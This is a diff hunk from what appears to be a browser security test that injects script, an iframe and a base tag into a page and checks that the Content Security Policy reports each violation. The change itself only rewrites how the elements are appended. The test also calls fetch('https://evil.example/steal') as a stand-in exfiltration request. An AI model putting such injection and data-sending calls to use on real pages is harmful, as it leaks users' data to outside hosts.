@@ -71,7 +71,7 @@ test('script that got into the page is refused by the policy', async ({ page, ex
     frame.src = 'https://evil.example/'
     const base = document.createElement('base')
     base.href = 'https://evil.example/'
-    document.body.append(inline, foreign, handler, style, frame, base)
+    for (const element of [inline, foreign, handler, style, frame, base]) document.body.appendChild(element)
     await fetch('https://evil.example/steal').catch(() => {})
     await new Promise((resolve) => setTimeout(resolve, 300))
     return violations.sort()
